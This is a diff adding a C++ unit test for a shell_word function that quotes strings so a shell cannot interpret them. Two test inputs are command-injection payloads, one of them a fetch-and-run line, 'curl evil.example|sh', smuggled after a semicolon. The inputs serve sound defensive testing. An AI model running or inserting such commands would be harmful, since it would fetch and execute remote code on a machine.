@@ -41,5 +41,13 @@ TEST(Counts, AreGroupedAndOneIsOne) {
   EXPECT_EQ(count_of(2, "row", "rows"), "2 rows");
 }
 
+TEST(Screen, WordsOfCommandsAreQuotedWhereAShellWouldReadThem) {
+  EXPECT_EQ(shell_word("ann+1@x.example"), "ann+1@x.example");
+  EXPECT_EQ(shell_word("press; curl evil.example|sh"), "'press; curl evil.example|sh'");
+  EXPECT_EQ(shell_word("|sh${IFS}@x.example"), "'|sh${IFS}@x.example'");
+  EXPECT_EQ(shell_word("o'neil@x.example"), "'o'\\''neil@x.example'");
+  EXPECT_EQ(shell_word(""), "''");
+}
+
 }  // namespace
 }  // namespace gazetted::test
